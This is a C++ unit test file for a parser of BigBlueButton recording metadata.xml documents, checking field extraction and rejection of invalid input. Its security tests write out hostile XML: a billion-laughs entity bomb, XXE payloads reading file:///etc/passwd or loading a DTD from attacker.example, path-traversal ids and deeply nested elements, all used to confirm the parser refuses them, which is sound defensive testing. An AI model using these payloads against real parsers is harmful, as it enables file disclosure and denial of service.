#include "recordings/metadata_xml.hpp"

#include "recordings/recording_document.hpp"
#include "recordings/recording_metadata.hpp"
#include "sample_metadata.hpp"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace b3s::core::recordings {
namespace {

using test::encodedMeetingId;
using test::kRecordId;
using test::sampleMetadataXml;

std::string minimal(const std::string& inner) {
    return "<recording><id>rec-1</id>" + inner + "</recording>";
}

const std::string kPlayback = "<playback><format>presentation</format><link>https://b/p</link></playback>";

TEST(MetadataXmlTest, ReadsARealBbbDocument) {
    const auto result = parseMetadataXml(sampleMetadataXml());
    ASSERT_TRUE(result.ok()) << result.error;
    const auto& rec = result.imported->recording;
    EXPECT_EQ(rec.record_id, kRecordId);
    EXPECT_EQ(rec.meeting_id, encodedMeetingId());
    EXPECT_EQ(rec.internal_meeting_id, kRecordId);
    EXPECT_EQ(rec.name, "Fred's Room & <friends>");
    EXPECT_FALSE(rec.is_breakout);
    EXPECT_TRUE(rec.published);
    EXPECT_EQ(rec.state, "published");
    EXPECT_EQ(rec.start_time, 1554230749920);
    EXPECT_EQ(rec.end_time, 1554230868742);
    EXPECT_EQ(rec.participants, 3);
    EXPECT_TRUE(rec.frontend_id.empty());
    const Metadata expected = {{"b3s-frontend", "tenant1"},
                               {"bbb-origin", "Greenlight"},
                               {"bbb-origin-version", "v3"},
                               {"gl-listed", "false"},
                               {"isbreakout", "false"},
                               {"meetingid", encodedMeetingId()},
                               {"meetingname", "Fred's Room & <friends>"}};
    EXPECT_EQ(rec.metadata, expected);
    EXPECT_TRUE(result.imported->warnings.empty());

    const auto& format = result.imported->format;
    EXPECT_EQ(format.type, "presentation");
    EXPECT_EQ(format.url, std::string("https://bbb1.example.com/playback/presentation/2.3/") + kRecordId);
    EXPECT_EQ(format.processing_time, 5429);
    EXPECT_EQ(format.length, 1);  // 118822 ms
    EXPECT_EQ(format.size, 1104836);
    ASSERT_EQ(format.preview.size(), 2u);
    EXPECT_EQ(format.preview[0].alt, "Welcome to BigBlueButton");
    EXPECT_EQ(format.preview[0].width, 176);
    EXPECT_EQ(format.preview[0].height, 136);
    EXPECT_TRUE(format.preview[0].url.ends_with("/thumbnails/thumb-1.png"));
    EXPECT_EQ(format.preview[1].alt, "");
    EXPECT_EQ(parseFormatsJson(rec.formats_json), std::vector<PlaybackFormat>{format});
}

TEST(MetadataXmlTest, FallsBackToTheMeetingElement) {
    const auto result = parseMetadataXml(minimal(
        R"(<meeting id="internal-1" externalId="ext-1" name="Room" breakout="true"/><meta><Custom-Key>V</Custom-Key></meta>)" +
        kPlayback));
    ASSERT_TRUE(result.ok()) << result.error;
    const auto& rec = result.imported->recording;
    EXPECT_EQ(rec.meeting_id, "ext-1");
    EXPECT_EQ(rec.internal_meeting_id, "internal-1");
    EXPECT_EQ(rec.name, "Room");
    EXPECT_TRUE(rec.is_breakout);
    EXPECT_EQ(rec.metadata, (Metadata{{"custom-key", "V"}}));
    EXPECT_EQ(result.imported->warnings.size(), 2u);  // meetingId, meetingName
}

TEST(MetadataXmlTest, InternalIdDefaultsToDeprecatedPrefixAsB3scale) {
    const auto result = parseMetadataXml(minimal("<meta><meetingId>m1</meetingId></meta>" + kPlayback));
    ASSERT_TRUE(result.ok()) << result.error;
    EXPECT_EQ(result.imported->recording.internal_meeting_id, "DEPRECATED:m1");
}

TEST(MetadataXmlTest, MetaIsBreakoutWinsOverTheMeetingAttribute) {
    const auto result = parseMetadataXml(
        minimal(R"(<meeting breakout="false"/><meta><isBreakout>true</isBreakout></meta>)" + kPlayback));
    ASSERT_TRUE(result.ok());
    EXPECT_TRUE(result.imported->recording.is_breakout);
}

TEST(MetadataXmlTest, RepeatedMetaNamesKeepTheFirst) {
    const auto result = parseMetadataXml(minimal("<meta><Tag>one</Tag><tag>two</tag></meta>" + kPlayback));
    ASSERT_TRUE(result.ok());
    EXPECT_EQ(result.imported->recording.metadata, (Metadata{{"tag", "one"}}));
}

TEST(MetadataXmlTest, UnpublishedDocument) {
    const auto result = parseMetadataXml(minimal("<state>unpublished</state><published>false</published>" + kPlayback));
    ASSERT_TRUE(result.ok());
    EXPECT_FALSE(result.imported->recording.published);
    EXPECT_EQ(result.imported->recording.state, "unpublished");
    // Only one of the two: the other follows.
    const auto only_flag = parseMetadataXml(minimal("<published>false</published>" + kPlayback));
    EXPECT_EQ(only_flag.imported->recording.state, "unpublished");
    const auto only_state = parseMetadataXml(minimal("<state>processed</state>" + kPlayback));
    EXPECT_FALSE(only_state.imported->recording.published);
}

TEST(MetadataXmlTest, LengthIsWholeMinutesAndBadNumbersWarn) {
    const auto result =
        parseMetadataXml(minimal("<start_time>abc</start_time><playback><format>video</format><link>https://b/v</link>"
                                 "<duration>179999</duration></playback>"));
    ASSERT_TRUE(result.ok());
    EXPECT_EQ(result.imported->format.length, 2);
    EXPECT_FALSE(result.imported->format.size);
    EXPECT_EQ(result.imported->recording.start_time, 0);
    EXPECT_FALSE(result.imported->warnings.empty());
}

TEST(MetadataXmlTest, RefusesAMissingOrInvalidId) {
    EXPECT_EQ(parseMetadataXml("<recording>" + kPlayback + "</recording>").error,
              "The metadata.xml has no recording id.");
    EXPECT_EQ(parseMetadataXml("<recording><id>  </id>" + kPlayback + "</recording>").error,
              "The metadata.xml has no recording id.");
    for (const std::string& id : std::vector<std::string>{"../../etc", "a b", "a/b", std::string(201, 'a'), "rec%2e"}) {
        const auto result = parseMetadataXml("<recording><id>" + id + "</id>" + kPlayback + "</recording>");
        EXPECT_FALSE(result.ok()) << id;
        EXPECT_EQ(result.error, "The recording id is not [A-Za-z0-9_-]{1,200}.");
    }
    EXPECT_TRUE(
        parseMetadataXml("<recording><id>" + std::string(200, 'a') + "</id>" + kPlayback + "</recording>").ok());
}

TEST(MetadataXmlTest, RefusesAMissingFormatOrLink) {
    EXPECT_EQ(parseMetadataXml(minimal("")).error, "The metadata.xml has no playback format and link.");
    EXPECT_FALSE(parseMetadataXml(minimal("<playback><format>presentation</format></playback>")).ok());
    EXPECT_FALSE(parseMetadataXml(minimal("<playback><link>https://b/p</link></playback>")).ok());
    EXPECT_EQ(parseMetadataXml(minimal("<playback><format>../x</format><link>https://b/p</link></playback>")).error,
              "The playback format name is not [A-Za-z0-9_-]{1,200}.");
}

TEST(MetadataXmlTest, RefusesWhatIsNotARecordingDocument) {
    EXPECT_EQ(parseMetadataXml("").error, "The metadata.xml is not well-formed XML (or exceeds the parser's limits).");
    EXPECT_FALSE(parseMetadataXml("{\"id\": 1}").ok());
    EXPECT_FALSE(parseMetadataXml("<recording><id>x</id>").ok());
    EXPECT_EQ(parseMetadataXml("<response><id>x</id></response>").error,
              "The metadata.xml has no <recording> root element.");
}

TEST(MetadataXmlTest, RefusesDocumentsOverOneMebibyte) {
    std::string big = sampleMetadataXml();
    const auto at = big.find("</recording>");
    big.insert(at, "<!--" + std::string(kMaxMetadataXmlBytes, 'x') + "-->");
    EXPECT_EQ(parseMetadataXml(big).error, "The metadata.xml is larger than 1 MiB.");
}

TEST(MetadataXmlTest, RefusesBillionLaughs) {
    const std::string bomb = R"(<?xml version="1.0"?>
<!DOCTYPE recording [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<recording><id>rec-1</id><meta><meetingName>&lol9;</meetingName></meta>
<playback><format>presentation</format><link>https://b/p</link></playback></recording>)";
    const auto result = parseMetadataXml(bomb);
    EXPECT_FALSE(result.ok());
    EXPECT_EQ(result.error, "The metadata.xml has a DOCTYPE, which is refused (no DTDs, no entities).");
}

TEST(MetadataXmlTest, RefusesExternalEntities) {
    for (const std::string doc : {
             R"(<?xml version="1.0"?><!DOCTYPE recording [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>)"
             R"(<recording><id>rec-1</id><meta><meetingName>&xxe;</meetingName></meta>)"
             R"(<playback><format>presentation</format><link>https://b/p</link></playback></recording>)",
             R"(<!DOCTYPE recording SYSTEM "http://attacker.example/evil.dtd"><recording><id>rec-1</id>)"
             R"(<playback><format>presentation</format><link>https://b/p</link></playback></recording>)",
         }) {
        const auto result = parseMetadataXml(doc);
        EXPECT_FALSE(result.ok());
        EXPECT_NE(result.error.find("DOCTYPE"), std::string::npos);
    }
    // An undeclared entity without a DTD is simply not well-formed.
    const auto undeclared = parseMetadataXml(minimal("<meta><meetingName>&xxe;</meetingName></meta>" + kPlayback));
    EXPECT_FALSE(undeclared.ok());
}

TEST(MetadataXmlTest, RefusesDeepNesting) {
    std::string deep;
    for (int i = 0; i < 10000; ++i) deep += "<a>";
    for (int i = 0; i < 10000; ++i) deep += "</a>";
    EXPECT_FALSE(parseMetadataXml(minimal("<meta><x>" + deep + "</x></meta>" + kPlayback)).ok());
}

TEST(MetadataXmlTest, IgnoresCommentsAndProcessingInstructionsBeforeTheRoot) {
    const auto result = parseMetadataXml("<?xml version=\"1.0\"?><!-- <!DOCTYPE x> --><?pi x?>" + minimal(kPlayback));
    EXPECT_TRUE(result.ok()) << result.error;
}

}  // namespace
}  // namespace b3s::core::recordings
